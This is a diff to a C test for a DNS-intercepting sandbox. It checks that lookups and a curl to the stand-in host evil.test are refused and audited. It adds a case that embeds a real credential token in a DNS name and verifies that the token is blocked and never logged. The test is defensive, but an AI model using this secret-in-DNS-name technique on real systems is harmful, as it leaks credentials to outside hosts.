@@ -991,13 +991,14 @@ static void test_ssh_refused(void)
  */
 static void test_denied_name(void)
 {
+	char body[2048];
 	struct session s;
 	size_t mark;
 	char *rec;
 
 	SKIP_IF_NEEDED();
 	mark = test_file_size(p_record);
-	session_run(&s, "dns", "intercept",
+	snprintf(body, sizeof(body),
 		    "getent hosts evil.test; echo \"getent=$?\"\n"
 		    "python3 -c \"import socket\n"
 		    "try:\n"
@@ -1006,7 +1007,10 @@ static void test_denied_name(void)
 		    "except socket.gaierror as e:\n"
 		    "    print('py=gaierror', e.errno == socket.EAI_NONAME)\"\n"
 		    "curl -sS --max-time 10 https://evil.test/ >/dev/null 2>&1; echo \"curl=$?\"\n"
-		    "getent ahostsv4 web.test | head -n 1\n");
+		    "getent ahostsv4 web.test | head -n 1\n"
+		    /* round 15: a real value as a name: refused, written nowhere */
+		    "getent hosts \"%s.web.test\"; echo \"realdns=$?\"\n", real_token);
+	session_run(&s, "dns", "intercept", body);
 	rec = test_file_since(p_record, mark);
 	ROW(s.status == 0 && test_has(s.out, "getent=2\n"), "denied name: getent did not say not found: %s",
 	    tail_of(s.out));
@@ -1017,6 +1021,17 @@ static void test_denied_name(void)
 	ROW(test_has(s.err, "passavant: blocked DNS lookup of evil.test (not in allowedDomains)"),
 	    "denied name: no stderr line: %s", tail_of(s.err));
 	ROW(audit_denies(s.audit, "dns", "evil.test"), "denied name: no dns refusal in the audit %s", s.audit);
+	{
+		char *audit = test_read_file(s.audit, NULL);
+
+		ROW(test_has(s.out, "realdns=2\n"), "a real value as a name: getent did not say not found: %s",
+		    tail_of(s.out));
+		ROW(test_has(s.err, "(the name carries a real value of GH_TOKEN)"),
+		    "a real value as a name: no stderr line naming the credential: %s", tail_of(s.err));
+		ROW(audit != NULL && !test_has(audit, real_token) && !test_has(s.err, real_token),
+		    "a real value as a name: written in the audit or on stderr");
+		free(audit);
+	}
 	ROW(rec != NULL && !test_has(rec, "evil.test"), "denied name: the upstream saw evil.test");
 	free(rec);
 	session_free(&s);
